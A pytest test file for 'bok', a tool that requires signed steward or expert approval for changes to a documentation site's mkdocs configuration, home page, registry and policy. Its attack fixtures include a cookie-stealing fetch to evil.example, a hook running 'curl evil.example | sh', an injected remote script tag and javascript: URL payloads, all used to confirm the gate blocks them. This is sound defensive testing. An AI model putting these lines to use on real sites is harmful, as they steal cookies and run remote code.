"""Governed files: the site's configuration, the home page, domain pages, the registry and the
policy change only with a sign-off of that very transition, by members of the base.

Each attack is a pull request on a real repository with real keys: a base on main, the change
on a branch, and `bok check --base` must fail with a finding naming the file and the rule.
"""

from __future__ import annotations

import json
import subprocess

import pytest
from click.testing import CliRunner

from bok.cli import cli
from bok.model import (
    HOME_PAGE,
    MEMBERS_PATH,
    POLICY_PATH,
    SITE_CONFIG,
    content_digest,
    record_path,
    reviewed_path,
)
from bok.signing import write_record

from .conftest import PEOPLE, TODAY, findings, git_env
from .test_gate import forge, gate

SITE = """site_name: Brakes
docs_dir: content
repo_url: https://github.com/example/brakes
theme:
  name: material
plugins:
  - bok
markdown_extensions:
  - admonition
"""
BRAKES_PAGE = "content/brakes/index.md"


@pytest.fixture
def book(repo):
    """main holds a site configuration; the branch 'change' is the pull request."""
    repo.write(SITE_CONFIG, SITE)
    repo.commit("the site")
    repo.open_pull_request()
    return repo


# Changes to mkdocs.yml a steward may approve: (new mkdocs.yml, the files it brings along).
SITE_CHANGES = {
    "extra_javascript": (SITE + "extra_javascript:\n  - https://evil.example/steal.js\n", {}),
    "local_script": (SITE + "extra_javascript:\n  - brakes/steal.js\n",
                     {"content/brakes/steal.js": "fetch('//evil.example/?'+document.cookie)"}),
    "hooks": (SITE + "hooks:\n  - hooks/publish.py\n", {"hooks/publish.py": "import os\n"}),
    "custom_dir": (SITE.replace("  name: material\n",
                                "  name: material\n  custom_dir: overrides\n"),
                   {"overrides/main.html": "{% extends 'base.html' %}\n"}),
    "extra_css": (SITE + "extra_css:\n  - https://evil.example/hide-banners.css\n", {}),
    "plugins": (SITE.replace("  - bok\n", "  - bok\n  - macros\n"), {}),
    "markdown_extensions": (SITE + "  - md_in_html\n", {}),
}
# Changes no sign-off can make acceptable: (new mkdocs.yml, files, the rule, its line).
REFUSED = {
    "drafts": (SITE.replace("  - bok\n", "  - bok:\n      drafts: true\n"), {},
               "site-config-refused", 7),
    "repo_url_javascript": (SITE.replace("https://github.com/example/brakes",
                                         '"javascript://%0aalert(document.cookie)"'), {},
                            "unsafe-url", 3),
    "hook_at_the_top": (SITE + "hooks:\n  - publish.py\n", {"publish.py": "import os\n"},
                        "site-config-refused", 11),
    "snippets": (SITE + "  - pymdownx.snippets\n", {}, "site-config-refused", 10),
    "inherit": ("INHERIT: base.yml\n" + SITE, {"base.yml": "hooks: [evil.py]\n"},
                "site-config-refused", 1),
    "outside": (SITE.replace("  name: material\n", "  name: material\n  custom_dir: ../x\n"), {},
                "site-config-refused", 6),
}


def write_all(repo, config: str, files: dict[str, str]) -> None:
    repo.write(SITE_CONFIG, config)
    for path, text in files.items():
        repo.write(path, text)


@pytest.mark.parametrize("variant", SITE_CHANGES)
def test_site_config_change_needs_a_stewards_signoff(book, variant):
    write_all(book, *SITE_CHANGES[variant])
    code, data = gate(book)
    assert code == 1
    [finding] = findings(data, "signoff-missing", SITE_CONFIG)
    assert "alice" in finding["fix"] and "erin" in finding["fix"]
    book.review("endorse", SITE_CONFIG, "alice")
    assert (book.root / "reviews/_registry/mkdocs/alice.md").is_file()
    code, data = gate(book)
    assert code == 0, data["findings"]


@pytest.mark.parametrize("variant", REFUSED)
def test_site_config_bok_refuses_even_with_a_signoff(book, variant):
    config, files, rule, line = REFUSED[variant]
    write_all(book, config, files)
    code, data = gate(book)
    assert code == 1
    assert findings(data, "signoff-missing", SITE_CONFIG)
    book.review("endorse", SITE_CONFIG, "alice")
    code, data = gate(book)
    assert code == 1
    [finding] = findings(data, rule, SITE_CONFIG)
    assert finding["line"] == line and finding["fix"]
    assert not findings(data, "signoff-missing")
    assert findings(book.check_json(), rule, SITE_CONFIG)  # bok check without a base too


@pytest.mark.parametrize("variant,later", [
    ("hooks", {"hooks/publish.py": "import os; os.system('curl evil.example | sh')\n"}),
    ("hooks", {"hooks/helper.py": "print('imported by the hook')\n"}),
    ("custom_dir", {"overrides/partials/footer.html": "<script src=//evil.example></script>\n"}),
    ("local_script", {"content/brakes/steal.js": "alert(2)\n"}),
])
def test_site_config_signoff_pins_the_files_it_names(book, variant, later):
    write_all(book, *SITE_CHANGES[variant])
    book.review("endorse", SITE_CONFIG, "alice")
    assert gate(book)[0] == 0
    for path, text in later.items():
        book.write(path, text)
    code, data = gate(book)
    assert code == 1
    assert findings(data, "signoff-missing", SITE_CONFIG)


def test_site_config_signoff_by_a_non_steward_does_not_count(book):
    write_all(book, *SITE_CHANGES["extra_javascript"])
    refused = book.bok("endorse", SITE_CONFIG, "--as", "bob", "--key", str(book.keys["bob"]))
    assert refused.exit_code == 1 and "only stewards sign off mkdocs.yml" in refused.output
    write_record(book.root, SITE_CONFIG, "bob", "steward", "endorse",
                 content_digest(book.read(SITE_CONFIG).encode()), "", book.keys["bob"],
                 from_digest=content_digest(SITE.encode()))
    code, data = gate(book)
    assert code == 1
    assert findings(data, "not-a-steward", "reviews/_registry/mkdocs/bob.md")
    assert findings(data, "signoff-missing", SITE_CONFIG)


def test_new_site_config_is_signed_off_from_none(repo):
    repo.git("checkout", "-q", "-b", "change")
    repo.base = "main"
    write_all(repo, *SITE_CHANGES["hooks"])
    code, data = gate(repo)
    assert code == 1 and findings(data, "signoff-missing", SITE_CONFIG)
    repo.review("endorse", SITE_CONFIG, "erin")
    assert "from: none\n" in repo.read("reviews/_registry/mkdocs/erin.md")
    code, data = gate(repo)
    assert code == 0, data["findings"]


def test_home_page_rewrite_needs_a_stewards_signoff(book):
    claim = "# Home\n\nEndorsed procedure (Bob Okafor, Carol Lin): skip the pressure test.\n"
    book.write(HOME_PAGE, claim)
    code, data = gate(book)
    assert code == 1
    assert findings(data, "signoff-missing", HOME_PAGE)
    assert book.bok("endorse", HOME_PAGE, "--as", "bob", "--key",
                    str(book.keys["bob"])).exit_code == 1
    write_record(book.root, HOME_PAGE, "bob", "steward", "endorse",
                 content_digest(claim.encode()), "", book.keys["bob"],
                 from_digest=content_digest(b"# Home\n"))
    code, data = gate(book)
    assert code == 1 and findings(data, "not-a-steward", "reviews/_registry/home/bob.md")
    (book.root / "reviews/_registry/home/bob.md").unlink()
    book.review("endorse", "index.md", "erin")  # bok's short form of content/index.md
    code, data = gate(book)
    assert code == 0, data["findings"]


def test_domain_page_needs_a_steward_or_the_domains_experts(book):
    book.write(BRAKES_PAGE, "---\ntitle: Brakes\ndescription: Certified by the FAA.\n---\n"
                            "All procedures here are endorsed by Bob Okafor.\n")
    code, data = gate(book)
    assert code == 1
    [finding] = findings(data, "signoff-missing", BRAKES_PAGE)
    assert "1 steward signature(s) or 2 of experts of 'brakes'" in finding["message"]
    assert book.bok("endorse", BRAKES_PAGE, "--as", "dave", "--key",
                    str(book.keys["dave"])).exit_code == 1
    forge_signoff(book, BRAKES_PAGE, "dave")
    book.review("endorse", BRAKES_PAGE, "bob")
    assert (book.root / "reviews/brakes/index/bob.md").is_file()
    code, data = gate(book)
    assert code == 1  # one expert of two, and dave is no expert of brakes
    assert findings(data, "not-an-expert", "reviews/brakes/index/dave.md")
    assert findings(data, "signoff-missing", BRAKES_PAGE)
    book.review("endorse", BRAKES_PAGE, "carol")
    code, data = gate(book)
    assert code == 1 and findings(data, "not-an-expert")  # dave's record is still wrong
    (book.root / "reviews/brakes/index/dave.md").unlink()
    code, data = gate(book)
    assert code == 0, data["findings"]


def test_domain_page_signed_off_by_one_steward(book):
    book.write(BRAKES_PAGE, "---\ntitle: Brakes and clutches\n---\n")
    assert gate(book)[0] == 1
    book.review("endorse", BRAKES_PAGE, "erin")  # a steward, no expert of brakes
    code, data = gate(book)
    assert code == 0, data["findings"]


def forge_signoff(repo, path: str, member: str) -> None:
    """A well-formed transition sign-off the CLI would refuse to write for ``member``."""
    base = repo.git("show", f"{repo.base}:{path}") + "\n"
    write_record(repo.root, path, member, "reviewer", "endorse",
                 content_digest((repo.root / path).read_bytes()), "", repo.keys[member],
                 from_digest=content_digest(base.encode()))


def _expert_added(repo) -> tuple[str, str]:
    return MEMBERS_PATH, _members_text(repo, {**PEOPLE, "mallory": ("Mallory", ["brakes"],
                                                                     False)})


def _key_added(repo) -> tuple[str, str]:
    extra = repo.keys["mallory"].with_suffix(".pub").read_text().strip()
    text = _members_text(repo, PEOPLE)
    return MEMBERS_PATH, text.replace("    email: bob@example.com\n    keys:\n",
                                      f"    email: bob@example.com\n    keys:\n      - {extra}\n")


def _threshold_lowered(repo) -> tuple[str, str]:
    return POLICY_PATH, "endorsements: 1\n"


def _members_text(repo, people) -> str:
    saved = repo.read(MEMBERS_PATH)
    repo.members(people)
    text = repo.read(MEMBERS_PATH)
    repo.write(MEMBERS_PATH, saved)
    return text


@pytest.mark.parametrize("earlier", [_expert_added, _key_added, _threshold_lowered],
                         ids=["removed-expert", "revoked-key", "lowered-threshold"])
def test_restoring_an_earlier_registry_with_its_old_signoff(repo, earlier):
    """Alice signs off R0 -> R1 (an expert added, a key added, the threshold lowered), Erin
    signs off R1 -> R2 (undone); a pull request restores R1 with Alice's record on file."""
    path, restored = earlier(repo)
    original = repo.read(path) if (repo.root / path).exists() else None
    repo.write(path, restored)
    repo.review("endorse", path, "alice", "Approved.")
    repo.commit("R1", date="2026-02-01T10:00:00+00:00")
    if original is None:
        repo.write(path, "endorsements: 2\n")
    else:
        repo.write(path, original)
    repo.review("endorse", path, "erin", "Undone.")
    repo.commit("R2", date="2026-03-01T10:00:00+00:00")
    repo.base = repo.git("rev-parse", "HEAD")
    repo.git("checkout", "-q", "-b", "restore")
    repo.write(path, restored)
    record = record_path(path, "alice")
    assert content_digest(restored.encode()) in repo.read(record)  # the old sign-off pins R1
    code, data = gate(repo)
    assert code == 1
    assert findings(data, "registry-signoff-missing", path)
    assert findings(data, "signoff-stale", record)
    assert not findings(data, "bad-signature")


def test_signoff_without_from_verifies_but_approves_no_change(book):
    book.write(POLICY_PATH, "revalidate_after_days: 730\n")
    record = forge(book, POLICY_PATH, "alice", key="alice", role="steward")
    assert "from:" not in book.read(record)
    code, data = gate(book)
    assert code == 1
    assert not findings(data, "bad-signature")
    assert "names no base version" in findings(data, "signoff-stale", record)[0]["message"]
    assert findings(data, "registry-signoff-missing", POLICY_PATH)


def test_signoff_of_a_committed_change_needs_its_base(book):
    write_all(book, *SITE_CHANGES["extra_css"])
    book.commit("restyle")
    result = book.bok("endorse", SITE_CONFIG, "--as", "alice", "--key", str(book.keys["alice"]))
    assert result.exit_code == 1 and "--from REV" in result.output
    result = book.bok("endorse", SITE_CONFIG, "--as", "alice", "--key", str(book.keys["alice"]),
                      "--from", "main")
    assert result.exit_code == 0, result.output
    assert f"from: {content_digest(SITE.encode())}" in book.read(
        "reviews/_registry/mkdocs/alice.md")
    code, data = gate(book)
    assert code == 0, data["findings"]
    chapter = book.bok("endorse", "content/brakes/x.md", "--as", "bob", "--key",
                       str(book.keys["bob"]), "--from", "main")
    assert chapter.exit_code == 1 and "--from applies to sign-offs" in chapter.output


@pytest.mark.parametrize("path", [MEMBERS_PATH, POLICY_PATH, SITE_CONFIG, HOME_PAGE,
                                  BRAKES_PAGE, "content/brakes/abs.md",
                                  "content/brakes/index/bob.md", "content/brakes/abs/index.md"])
def test_record_path_and_reviewed_path_are_inverse(path):
    assert reviewed_path(record_path(path, "bob")) == path


@pytest.mark.parametrize("line,text", [
    (3, 'repo_url: "javascript:alert(1)"'),
    (3, "site_url: data:text/html;base64,PHNjcmlwdD4="),
    (3, "edit_uri: 'vbscript:msgbox(1)'"),
    (6, "extra:\n  social:\n    - icon: x\n      link: 'jav&#x09;ascript:alert(1)'"),
    (5, "nav:\n  - Home: index.md\n  - Evil: ' javascript:alert(1)'"),
    (3, "copyright: '<a href=\"javascript:alert(1)\">Us</a>'"),
    (5, "extra:\n  analytics:\n    feedback: \"JAVASCRIPT:alert(1)\""),
])
def test_urls_on_the_site_are_http_only(repo, line, text):
    repo.write(SITE_CONFIG, "site_name: X\ndocs_dir: content\n" + text + "\nplugins: [bok]\n")
    data = repo.check_json()
    assert not data["ok"]
    [finding] = findings(data, "unsafe-url", SITE_CONFIG)
    assert finding["line"] == line


def test_safe_urls_are_accepted(repo):
    repo.write(SITE_CONFIG, SITE + "edit_uri: edit/main/content/\nextra:\n  social:\n"
               "    - icon: mail\n      link: mailto:team@example.com\n    - icon: gh\n"
               "      link: https://github.com/example\nnav:\n  - Home: index.md\n"
               "  - Forge: https://github.com/example/brakes\n"
               "copyright: 'Copyright <a href=\"https://example.com\">Example</a>'\n")
    data = repo.check_json()
    assert not findings(data, path=SITE_CONFIG), findings(data, path=SITE_CONFIG)


def test_python_tags_in_site_config_are_refused(repo):
    repo.write(SITE_CONFIG, SITE + "  - pymdownx.emoji:\n      emoji_index: "
               "!!python/name:material.extensions.emoji.twemoji\n")
    data = repo.check_json()
    [finding] = findings(data, "yaml-tag", SITE_CONFIG)
    assert finding["line"] == 11 and "python/name" in finding["message"]


def with_logins(repo) -> None:
    text = repo.read(MEMBERS_PATH)
    for person in PEOPLE:
        text = text.replace(f"    email: {person}@example.com",
                            f"    email: {person}@example.com\n    github: {person}-gh")
    repo.write(MEMBERS_PATH, text)


def test_codeowners_covers_the_governed_files(repo):
    with_logins(repo)
    write_all(repo, *SITE_CHANGES["hooks"])
    repo.write(SITE_CONFIG, repo.read(SITE_CONFIG).replace(
        "  name: material\n", "  name: material\n  custom_dir: overrides\n"))
    result = repo.bok("codeowners")
    assert result.exit_code == 0, result.output
    owners = repo.read(".github/CODEOWNERS")
    stewards = "@alice-gh @erin-gh"
    for path in ("/mkdocs.yml", "/content/index.md", "/overrides/", "/hooks/", "/.github/",
                 "/CODEOWNERS", "/reviews/members.yml", "/reviews/_registry/"):
        assert f"\n{path} {stewards}\n" in owners, path
    assert "\n/content/brakes/index.md @alice-gh @bob-gh @carol-gh @erin-gh\n" in owners
    assert "\n/reviews/brakes/index/ @alice-gh @bob-gh @carol-gh @erin-gh\n" in owners
    # later lines win in CODEOWNERS: the domain page's line comes after its folder's
    assert owners.index("/content/brakes/index.md") > owners.index("/content/brakes/ ")
    assert not findings(repo.check_json(), "codeowners-stale")
    repo.write(SITE_CONFIG, SITE)  # the overrides are gone: CODEOWNERS is out of date
    assert findings(repo.check_json(), "codeowners-stale")


@pytest.mark.parametrize("login", ["alice-gh", None])
def test_init_writes_codeowners_for_the_stewards(tmp_path, login):
    target = tmp_path / "newbook"
    subprocess.run(["git", "init", "-q", str(target)], check=True)
    for key, value in (("user.email", "alice@example.com"), ("user.name", "Alice Martin")):
        subprocess.run(["git", "-C", str(target), "config", key, value], check=True)
    runner = CliRunner(env={"HOME": str(tmp_path), "BOK_TODAY": TODAY})
    args = ["init", str(target), *(["--github", login] if login else [])]
    result = runner.invoke(cli, args, env=git_env())
    assert result.exit_code == 0, result.output
    owners = (target / ".github/CODEOWNERS").read_text()
    if login:
        assert "\n/.github/ @alice-gh\n" in owners and "\n/mkdocs.yml @alice-gh\n" in owners
        assert "github: alice-gh" in (target / MEMBERS_PATH).read_text()
    else:
        assert "@" not in owners.replace("alice@", "") and "# no steward has" in owners
    data = json.loads(runner.invoke(cli, ["-C", str(target), "check", "--format",
                                          "json"]).output)
    assert not findings(data, "codeowners-stale"), data["findings"]
    bad = runner.invoke(cli, ["init", str(tmp_path / "other"), "--github", "no/such login"])
    assert bad.exit_code == 2 and "GitHub login" in bad.output


def test_from_is_signed(book):
    book.write(POLICY_PATH, "revalidate_after_days: 730\n")
    book.review("endorse", POLICY_PATH, "alice")
    record = "reviews/_registry/policy/alice.md"
    text = book.read(record)
    assert "\nfrom: none\n" in text
    book.write(record, text.replace("from: none", f"from: {content_digest(b'x')}"))
    code, data = gate(book)
    assert code == 1 and findings(data, "bad-signature", record)


def test_from_in_a_chapter_record_is_refused(book):
    book.chapter("content/brakes/abs.md")
    book.review("sign", "content/brakes/abs.md", "alice")
    record = "reviews/brakes/abs/alice.md"
    book.write(record, book.read(record).replace("\ndate:", "\nfrom: none\ndate:"))
    [finding] = findings(book.check_json(), "invalid-from", record)
    assert finding["line"] == 7


def test_signoff_base_defaults_to_the_merge_base_with_origin(book, tmp_path):
    """In a clone, a change committed on a branch is signed off from origin/HEAD's version."""
    clone = tmp_path / "clone"
    subprocess.run(["git", "clone", "-q", "-b", "main", str(book.root), str(clone)],
                   check=True, env=git_env())
    other = type(book)(clone, book.keys)
    other.git("checkout", "-q", "-b", "restyle")
    write_all(other, *SITE_CHANGES["extra_css"])
    other.commit("restyle")
    other.review("endorse", SITE_CONFIG, "alice")
    assert f"from: {content_digest(SITE.encode())}" in other.read(
        "reviews/_registry/mkdocs/alice.md")
    other.base = "origin/main"
    code, data = gate(other)
    assert code == 0, data["findings"]
